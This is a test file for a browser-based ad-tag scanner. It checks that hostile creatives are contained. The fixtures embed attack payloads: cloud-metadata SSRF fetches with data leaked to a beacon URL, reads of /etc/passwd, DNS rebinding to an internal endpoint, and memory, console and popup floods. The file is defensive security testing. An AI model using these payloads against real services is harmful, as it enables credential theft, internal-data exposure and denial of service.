// Hostile tags: each scan ends within its bound, refuses what the outbound policy refuses, leaks nothing, and the
// service keeps working for the next scan. Plus the public ad-tag corpus: every tag scans without error.
import { existsSync, readdirSync, readFileSync, statSync } from "node:fs";
import path from "node:path";
import type { Readable } from "node:stream";
import { ErrorType } from "@cva/contracts";
import { createMemoryArtifactSink, createOutboundPolicy, type HostResolver } from "@cva/platform";
import { describeWithCorpus, until } from "@cva/platform/testing/index.ts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Page, Protocol } from "puppeteer-core";
import { createBrowserPool, createTagScanner, type BrowserPool, type TagScanner } from "../src/index.ts";
import { runJob } from "../src/job.ts";
import { PIXEL_GIF, send, startFixtureServer, tagJob } from "./helpers.ts";

let pool: BrowserPool;
let scanner: TagScanner;
let fixture: Awaited<ReturnType<typeof startFixtureServer>>;
const artifacts = createMemoryArtifactSink();
const RENDER_MS = 8_000;

const box = `<div style="width:300px;height:250px;background:#393"></div>`;
const DOWNLOAD_NAME = `cva-download-probe-${process.pid}.bin`;

beforeAll(async () => {
  pool = createBrowserPool({ browsers: 1, slots: 2, maxHeapMb: 256 });
  scanner = createTagScanner({
    pool, artifacts, location: "usa",
    policy: createOutboundPolicy(["127.0.0.0/8", "::1/128"]),
    timeouts: { renderMs: RENDER_MS, holdMs: 1_000, stepMs: 3_000, landingMs: 5_000 },
  });
  fixture = await startFixtureServer({
    "/leak": send("image/gif", PIXEL_GIF),
    "/ok.gif": send("image/gif", PIXEL_GIF),
    // An internal service on an allowlisted private address (the proof used the tag scanner's own /metrics).
    "/metrics": send("text/plain", "cva_internal_secret 42\n"),
    "/payload.bin": (_req, res) => {
      res.writeHead(200, { "content-type": "application/octet-stream", "content-disposition": `attachment; filename="${DOWNLOAD_NAME}"` });
      res.end(Buffer.alloc(4096, 7));
    },
  });
});
afterAll(async () => {
  await fixture?.close();
  await pool?.close();
});

/** The service still renders a plain creative correctly. */
async function stillWorks() {
  const r = await scanner.scan(tagJob(box));
  expect(r.creativeRendered).toBe(true);
  expect(r.dimensions).toMatchObject({ width: 300, height: 250 });
  expect(r.timedOut).toBe(false);
}

describe("hostile tags", () => {
  it("a crashed browser is replaced", async () => {
    const lease = await pool.acquire();
    // Registered after the pool's own listener: once it fires, the pool has let the dead browser go.
    let gone = false;
    lease.browser.once("disconnected", () => void (gone = true));
    lease.browser.process()?.kill("SIGKILL");
    lease.release();
    await until("the pool to see the killed browser disconnect", async () => gone, Boolean, 15_000);
    await stillWorks();
  }, 90_000);

  it("an endless loop times out with a report, and the next scan works", async () => {
    const t = Date.now();
    const r = await scanner.scan(tagJob(`${box}<script>while (true) {}</script>`));
    expect(r.timedOut).toBe(true);
    expect(Date.now() - t).toBeLessThan(RENDER_MS + 30_000);
    await stillWorks();
  }, 90_000);

  it("an aborted scan ends early with what it measured", async () => {
    const ac = new AbortController();
    setTimeout(() => ac.abort(), 1_500);
    const t = Date.now();
    const r = await scanner.scan(tagJob(`<style>@keyframes s{to{transform:rotate(360deg)}}</style><div style="width:90px;height:90px;background:#09c;animation:s 1s linear infinite"></div>`), ac.signal);
    expect(r.timedOut).toBe(true);
    expect(r.creativeRendered).toBe(true);
    expect(Date.now() - t).toBeLessThan(RENDER_MS);
  }, 60_000);

  it("a popup storm leaves no popup open", async () => {
    const r = await scanner.scan(tagJob(`${box}<script>
for (let i = 0; i < 50; i++) window.open("about:blank#" + i, "_blank");
setInterval(() => window.open("${fixture.origin}/ok.gif", "_blank"), 20);
</script>`));
    expect(r.creativeRendered).toBe(true);
    // The slot comes back once the scan's context (and every popup in it) is closed, just after the report.
    await expect.poll(() => pool.busy, { timeout: 15_000, interval: 50 }).toBe(0);
    await stillWorks();
  }, 90_000);

  it("a memory hog is contained", async () => {
    const r = await scanner.scan(tagJob(`${box}<script>
const hog = []; setTimeout(function grow() { for (let i = 0; i < 50; i++) hog.push(new Array(1e6).fill(Math.random())); setTimeout(grow, 0); }, 100);
</script>`));
    expect(r.jobId).not.toBe("");
    // With a 256 MB heap cap the renderer dies alone; the report says so.
    expect(r.timedOut || r.console!.errors.some((e) => e.includes("crashed"))).toBe(true);
    await stillWorks();
  }, 90_000);

  it("requests and navigations to the metadata address are refused and recorded", async () => {
    const r = await scanner.scan(tagJob(`${box}
<img src="http://169.254.169.254/latest/meta-data/x.png">
<iframe src="http://169.254.169.254/latest/meta-data/" width="10" height="10" style="position:absolute;left:0;top:0;border:0"></iframe>
<script>
fetch("http://169.254.169.254/latest/meta-data/iam").then((r) => r.text()).then((t) => { new Image().src = "${fixture.origin}/leak?m=" + encodeURIComponent(t); }).catch(() => {});
new WebSocket("ws://169.254.169.254/socket");
setTimeout(() => { top.location.href = "http://169.254.169.254/latest/meta-data/"; }, 300);
</script>`));
    const meta = r.network!.responses.filter((x) => x.url.includes("169.254.169.254"));
    expect(meta.length).toBeGreaterThanOrEqual(4);
    // Nothing came back from the metadata address: every attempt is a refusal (proxy 403 or failure).
    for (const m of meta) expect(m.failure !== "" || m.status === 403).toBe(true);
    expect(meta.some((m) => m.failure.includes("outbound policy"))).toBe(true);
    expect(meta.find((m) => m.resourceType === "websocket")?.failure).not.toBe("");
    expect(fixture.seen.some((s) => s.url.startsWith("/leak"))).toBe(false);
    // The top frame stayed on the creative.
    expect(r.creativeRendered).toBe(true);
    expect(r.dimensions).toMatchObject({ width: 300, height: 250 });
    await stillWorks();
  }, 90_000);

  it("downloads are refused: nothing reaches the disk", async () => {
    const r = await scanner.scan(tagJob(`${box}<a id="d" href="${fixture.origin}/payload.bin" download="${DOWNLOAD_NAME}" style="display:none">get</a>
<script>document.getElementById("d").click(); setTimeout(() => { location.href = "${fixture.origin}/payload.bin"; }, 300);</script>`));
    expect(r.dimensions).toMatchObject({ width: 300, height: 250 });
    // Where Chromium would have saved it: the user's Downloads folder, the working directory, the temp directory.
    const home = process.env.HOME ?? "/root";
    for (const dir of [path.join(home, "Downloads"), process.cwd(), "/tmp"]) {
      expect(existsSync(path.join(dir, DOWNLOAD_NAME)), dir).toBe(false);
    }
    await stillWorks();
  }, 90_000);

  it("permission requests are refused: nothing is granted", async () => {
    const r = await scanner.scan(tagJob(`${box}<script>
const say = (m) => console.error(m);
navigator.geolocation.getCurrentPosition(() => say("geolocation granted"), (e) => say("geolocation refused " + e.code));
Notification.requestPermission().then((p) => say("notifications " + p), () => say("notifications refused"));
navigator.mediaDevices.getUserMedia({ video: true, audio: true }).then(() => say("camera granted"), (e) => say("camera refused " + e.name));
navigator.clipboard.readText().then(() => say("clipboard granted"), (e) => say("clipboard refused " + e.name));
</script>`));
    const said = r.console!.errors;
    // Geolocation and the clipboard answer at once; notifications ("denied") and the camera (no device) may answer
    // after the scan on a loaded machine — whatever arrives is a refusal.
    expect(said).toEqual(expect.arrayContaining(["geolocation refused 1", "clipboard refused NotAllowedError"]));
    expect(said.filter((m) => m.includes("granted") || m === "notifications default")).toEqual([]);
    expect(r.dialogs).toEqual([]);
  }, 90_000);

  it("file:///etc/passwd cannot be read or leaked", async () => {
    const r = await scanner.scan(tagJob(`${box}
<iframe src="file:///etc/passwd" id="f" width="10" height="10" style="position:absolute;left:0;top:0;border:0"></iframe>
<script>
const leak = (t) => { new Image().src = "${fixture.origin}/leak?d=" + encodeURIComponent(String(t).slice(0, 200)); };
fetch("file:///etc/passwd").then((r) => r.text()).then(leak).catch(() => {});
try { const x = new XMLHttpRequest(); x.open("GET", "file:///etc/passwd", false); x.send(); leak(x.responseText); } catch (e) {}
setTimeout(() => { try { leak(document.getElementById("f").contentDocument.body.innerText); } catch (e) {} }, 500);
setTimeout(() => { location.href = "file:///etc/passwd"; }, 700);
</script>`));
    const leaks = fixture.seen.filter((s) => s.url.startsWith("/leak"));
    for (const l of leaks) expect(decodeURIComponent(l.url)).not.toContain("root:");
    expect(JSON.stringify(r, (_k, v) => (typeof v === "bigint" ? Number(v) : v))).not.toContain("root:x:0");
    expect(r.dimensions).toMatchObject({ width: 300, height: 250 });
    await stillWorks();
  }, 90_000);
});

// Issue 20, hole 3: the host page is served at page_url's origin by interception, so a page_url on an allowlisted private
// host made the creative same-origin with whatever listens there.
describe("targeting.page_url on a private host", () => {
  const readsMetrics = `<script>fetch("/metrics").then((r) => r.text()).then((t) => console.error("read " + t), (e) => console.error("failed " + e));</script>${box}`;

  it("is refused when the host is a private address: the creative never runs at that origin", async () => {
    const outcome = await runJob(scanner, tagJob(readsMetrics, { apiVersion: "v2", pageUrl: `${fixture.origin}/` }));
    expect(outcome.case).toBe("error");
    expect(outcome.value).toMatchObject({ type: ErrorType.PAYLOAD, message: "targeting.page_url: host 127.0.0.1 is not a public address" });
    expect(fixture.seen.some((s) => s.url === "/metrics")).toBe(false);
  }, 90_000);

  it("is refused when the name resolves to a private address", async () => {
    const port = new URL(fixture.origin).port;
    const named = createTagScanner({
      pool, artifacts, location: "usa", policy: createOutboundPolicy(["127.0.0.0/8"], { resolve: async () => ["127.0.0.1"] }),
      timeouts: { renderMs: RENDER_MS, holdMs: 1_000 },
    });
    const outcome = await runJob(named, tagJob(readsMetrics, { apiVersion: "v2", pageUrl: `http://intranet.example:${port}/` }));
    expect(outcome.value).toMatchObject({ type: ErrorType.PAYLOAD, message: "targeting.page_url: host intranet.example resolves to a non-public address" });
    expect(fixture.seen.some((s) => s.url === "/metrics")).toBe(false);
  }, 90_000);

  it("a name that rebinds to a private address after the check reaches nothing at that origin", async () => {
    const port = new URL(fixture.origin).port;
    // Public when the scan checks it, loopback (allowlisted) for every connection after.
    let lookups = 0;
    const rebinding: HostResolver = async () => (++lookups === 1 ? ["93.184.216.34"] : ["127.0.0.1"]);
    const rebound = createTagScanner({
      pool, artifacts, location: "usa", policy: createOutboundPolicy(["127.0.0.0/8"], { resolve: rebinding }),
      timeouts: { renderMs: RENDER_MS, holdMs: 1_000 },
    });
    const r = await rebound.scan(tagJob(readsMetrics, { apiVersion: "v2", pageUrl: `http://rebind.example:${port}/` }));
    // The creative ran at page_url and tried; the egress proxy refused the connection and nothing internal came back.
    expect(lookups).toBeGreaterThan(1);
    const metrics = r.network!.responses.find((x) => x.url.endsWith("/metrics"));
    expect(metrics?.failure).toContain("refused by the outbound policy: rebind.example resolves to a non-public address");
    expect(r.console!.errors.some((e) => e.startsWith("read refused by the outbound policy"))).toBe(true);
    expect(JSON.stringify(r, (_k, v) => (typeof v === "bigint" ? Number(v) : v))).not.toContain("cva_internal_secret");
    expect(fixture.seen.some((s) => s.url === "/metrics")).toBe(false);
    await stillWorks();
  }, 90_000);
});

/** Runs `fn` with JSON.parse watched: the longest text parsed, and how many console events. */
async function parsing(fn: () => Promise<void>): Promise<{ longest: number; consoleEvents: number }> {
  const parse = JSON.parse;
  let longest = 0;
  let consoleEvents = 0;
  JSON.parse = ((text: string, reviver?: (this: unknown, key: string, value: unknown) => unknown) => {
    if (typeof text === "string") {
      longest = Math.max(longest, text.length);
      if (text.startsWith('{"method":"Runtime.consoleAPICalled"')) consoleEvents++;
    }
    return parse(text, reviver);
  }) as typeof JSON.parse;
  try {
    await fn();
    // Every message read from the pipe reaches JSON.parse within a few macrotasks (one message per macrotask).
    for (let i = 0; i < 50; i++) await new Promise((r) => setImmediate(r));
    return { longest, consoleEvents };
  } finally {
    JSON.parse = parse;
  }
}

// Issue 20, hole 8: every CDP message of a browser crosses one pipe into this process and was parsed whole before any
// cap applied, so a creative logging multi-MB strings in a loop made the scanner read and JSON.parse hundreds of MB on
// the event loop every scan of that browser shares.
describe("console floods", () => {
  /**
   * A page in the scanner's browser (a slot of its own; the scanner's scans run in the other) with a CDP session
   * listening to the console as the scan's does, and a reader of the browser's CDP pipe beside the scanner's own: how
   * many console messages Chromium wrote, and the largest. The page stays open until the evidence is in.
   */
  async function floodedPage(fn: (page: Page, consoleTexts: string[], pipe: { messages: number; largest: number }) => Promise<void>) {
    const lease = await pool.acquire();
    const stream = lease.browser.process()!.stdio[4] as Readable;
    const pipe = { messages: 0, largest: 0 };
    let bytes = 0;
    let head = "";
    const onData = (chunk: Buffer) => {
      for (let start = 0; ;) {
        const end = chunk.indexOf(0, start);
        const piece = chunk.subarray(start, end === -1 ? chunk.length : end);
        if (head.length < 40) head += piece.toString("latin1", 0, 40 - head.length);
        bytes += piece.length;
        if (end === -1) return;
        if (head.startsWith('{"method":"Runtime.consoleAPICalled"')) {
          pipe.messages++;
          pipe.largest = Math.max(pipe.largest, bytes);
        }
        bytes = 0;
        head = "";
        start = end + 1;
      }
    };
    stream.on("data", onData);
    const ctx = await lease.browser.createBrowserContext();
    try {
      const page = await ctx.newPage();
      await page.goto("data:text/html,<p>flood</p>");
      const session = await page.createCDPSession();
      const texts: string[] = [];
      session.on("Runtime.consoleAPICalled", (e: Protocol.Runtime.ConsoleAPICalledEvent) => texts.push(String(e.args[0]?.value)));
      await session.send("Runtime.enable");
      await fn(page, texts, pipe);
    } finally {
      stream.off("data", onData);
      await ctx.close().catch(() => {});
      lease.release();
    }
  }

  it("multi-MB console messages are cut before they are parsed, the session still hears of each, and a scan beside them is whole", async () => {
    await floodedPage(async (page, texts, pipe) => {
      let beside: Awaited<ReturnType<TagScanner["scan"]>> | undefined;
      const parsed = await parsing(async () => {
        await page.evaluate(`(() => { const big = "x".repeat(8 << 20); for (let i = 0; i < 4; i++) console.error("BIG" + i + big); })()`);
        beside = await scanner.scan(tagJob(`${box}<script>console.error("beside")</script>`));
        // Chromium wrote all of them: 4 calls, seen by two sessions (puppeteer's page session and ours).
        await expect.poll(() => pipe.messages, { timeout: 120_000, interval: 200 }).toBeGreaterThanOrEqual(8);
        await expect.poll(() => texts.length, { timeout: 10_000, interval: 100 }).toBe(4);
      });
      expect(pipe.largest).toBeGreaterThan(8 << 20);
      expect(parsed.longest).toBeLessThan(64 * 1024);
      for (const [i, t] of texts.entries()) expect(t).toMatch(new RegExp(`^BIG${i}x{200,}… \\[8\\.0 MB not read\\]$`));
      expect(beside!.console!.errors).toEqual(["beside"]);
      expect(beside!.dimensions).toMatchObject({ width: 300, height: 250 });
    });
    await stillWorks();
  }, 240_000);

  it("console events past a per-scan budget are dropped unparsed; errors after a loop of logs still arrive", async () => {
    await floodedPage(async (page, texts, pipe) => {
      const parsed = await parsing(async () => {
        await page.evaluate(`(() => { for (let i = 0; i < 20000; i++) console.log("line " + i); for (let i = 0; i < 5; i++) console.error("after " + i); })()`);
        await expect.poll(() => pipe.messages, { timeout: 120_000, interval: 200 }).toBeGreaterThanOrEqual(2 * 20_005);
        await expect.poll(() => texts.filter((t) => t.startsWith("after")).length, { timeout: 10_000, interval: 100 }).toBe(5);
      });
      // 500 logs and 5 errors per session, of 40 010 written.
      expect(parsed.consoleEvents).toBeLessThanOrEqual(2 * (500 + 5));
      expect(texts.filter((t) => t.startsWith("line "))).toHaveLength(500);
    });
    // And a scan's report keeps its errors beside such a loop.
    const r = await scanner.scan(tagJob(`<script>for (let i = 0; i < 3; i++) console.error("error " + i); for (let i = 0; i < 20000; i++) console.log("line " + i);</script>${box}`));
    expect(r.console!.errors).toEqual(["error 0", "error 1", "error 2"]);
    await stillWorks();
  }, 240_000);

  // The budget above was per CDP session, and every dedicated worker is a session of its own (puppeteer attaches to
  // it and enables its Runtime): 16 workers logging 1 000 lines each had 16 × 500 of their events parsed, the
  // creative choosing how many times the budget it got. The budget is per scan (the browser context) as well.
  it("console events of many workers share one budget per scan", async () => {
    const workers = 16;
    await floodedPage(async (page, texts, pipe) => {
      const parsed = await parsing(async () => {
        await page.evaluate(`(() => {
          console.error("page error");
          const src = URL.createObjectURL(new Blob(['for (let i = 0; i < 1000; i++) console.log("worker line " + i + " ${"w".repeat(1000)}");'], { type: "text/javascript" }));
          for (let i = 0; i < ${workers}; i++) new Worker(src);
        })()`);
        // Chromium wrote every worker's lines (one session each: puppeteer's) and the page's error (two sessions).
        await expect.poll(() => pipe.messages, { timeout: 120_000, interval: 200 }).toBeGreaterThanOrEqual(workers * 1_000 + 2);
        await expect.poll(() => texts.includes("page error"), { timeout: 10_000, interval: 100 }).toBe(true);
      });
      // One browser context's budget for the kind (2 000 logs) plus the page's error heard by its two sessions — not
      // 500 logs per worker (8 002 before: 8 000 of the 16 000 written; at 256 KB each, 2 GB parsed for one scan).
      expect(parsed.consoleEvents).toBeLessThanOrEqual(2_000 + 2);
    });
    await stillWorks();
  }, 240_000);
});

// A creative's localStorage was read whole out of every frame (up to 50) and cut to the report's 4 096 characters
// only here, after Chromium had sent it over the CDP pipe every scan of the browser shares and this process had parsed
// it: a frame holds up to 10 MB of it, so 50 frames of 50 origins made 500 MB. Each frame's entries are cut in the page.
describe("creative-sized strings on the CDP pipe", () => {
  // Chromium repeats a request's URL whole in several network events, and a data: URL may be hundreds of MB: ten
  // fetch()es of a 20 MB one made 294 MB of events parsed here (the longest 21 MB), for one scan.
  it("a loop of fetch()es of a 20 MB data: URL: its network events arrive with the URL shortened, before they are parsed", async () => {
    let r: Awaited<ReturnType<TagScanner["scan"]>> | undefined;
    const parsed = await parsing(async () => {
      r = await scanner.scan(tagJob(`${box}<script>
const s = "data:text/plain," + "a".repeat(20 << 20);
let i = 0;
const t = setInterval(() => { fetch(s + i).catch(() => {}); if (++i >= 10) clearInterval(t); }, 50);
</script>`));
    });
    // The creative's own scan ends with a report (it may starve its own renderer; that is its business).
    expect(r!.jobId).not.toBe("");
    expect(parsed.longest).toBeLessThan(1024 * 1024);
    await stillWorks();
  }, 120_000);

  it("a frame's multi-MB localStorage values are cut in the page, before they cross the pipe", async () => {
    let r: Awaited<ReturnType<TagScanner["scan"]>> | undefined;
    const parsed = await parsing(async () => {
      r = await scanner.scan(tagJob(`${box}<script>
const mb = "v".repeat(1 << 20);
for (let i = 0; i < 4; i++) localStorage.setItem("k" + i + "${"k".repeat(2000)}", mb);
localStorage.setItem("small", "kept");
</script>`));
    });
    const entries = r!.localStorage;
    expect(entries).toHaveLength(5);
    expect(entries.find((e) => e.key === "small")?.value).toBe("kept");
    for (const e of entries.filter((x) => x.key !== "small")) {
      expect(e.key).toHaveLength(1001);
      expect(e.key.endsWith("…")).toBe(true);
      expect(e.value).toBe(`${"v".repeat(4096)}…`);
    }
    // 4 MB written; the read carried at most the cut entries (4 × (1 001 + 4 097) characters), not the megabytes.
    expect(parsed.longest).toBeLessThan(256 * 1024);
    await stillWorks();
  }, 120_000);
});

function htmlFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => {
    const p = path.join(dir, n);
    return statSync(p).isDirectory() ? htmlFiles(p) : /\.html?$/i.test(n) ? [p] : [];
  });
}

describeWithCorpus("ad tag corpus", "adtags", (corpus) => {
  // Side by side, as a worker scans them: each waits for one of the pool's two slots.
  it.concurrent.each(htmlFiles(corpus).map((f) => [path.relative(corpus, f), f]))("%s scans without error", async (_name, file) => {
    const r = await scanner.scan(tagJob(readFileSync(file, "utf8")));
    expect(r.meta?.creativeType).toBeDefined();
    expect(r.network).toBeDefined();
  }, 90_000);
});
